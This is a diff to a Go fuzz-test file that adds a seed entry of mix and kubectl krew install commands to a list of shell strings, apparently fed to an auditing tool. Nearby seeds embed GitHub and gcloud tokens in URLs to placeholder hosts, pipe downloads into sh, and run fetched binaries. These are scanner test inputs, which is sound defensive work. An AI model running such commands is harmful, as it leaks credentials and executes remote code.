@@ -293,6 +293,7 @@ var fuzzSeeds = [][]string{
 	{"sh", "-c", `curl "https://$(gh auth token).$X.e/"'x'$(y) https://a$(gh auth token).b.c:1/ ; https GET :1 "$(gh auth token)"; http -o f e.x/$(gcloud auth print-access-token) | sh`},
 	{"sh", "-c", "eget -t '' a/b --to ./ && ./b; eget https://github.com/a/b/ --verify-sha256 x; ubi -p https://github.com/a -i '' && bin/; ubi --url http:// -e ./ --rename-exe-to /; dra b download -I x -o; dra download -i a/b -o / && /b; gh release download -R; kubectl cp a/b/c:/x C: && C:/x; oc -n x cp p: . && ./p; ubi -u x; ubi --url=h:/ -p "},
 	{"sh", "-c", `T=$(gh auth token); git clone https://$T:$(gh auth token)@$H.e/x; git push git+https://a@b/$T?$(gh auth token); pip install "git+ssh://$(gh auth token)@[::1]:x/"; x https://:$T@github.com/ https://$(op read x)@h.e/`},
+	{"sh", "-c", "mix archive.install hex a '== 1.0.0' --sha512; mix escript.install git h://x ref; mix escript.install github a tag x --app y; mix archive.install h:// --sha512=; mix local.rebar; kubectl krew install --manifest x --manifest-url= a; kubectl -n x krew upgrade; kubectl-krew index add a h://; kubectl krew"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
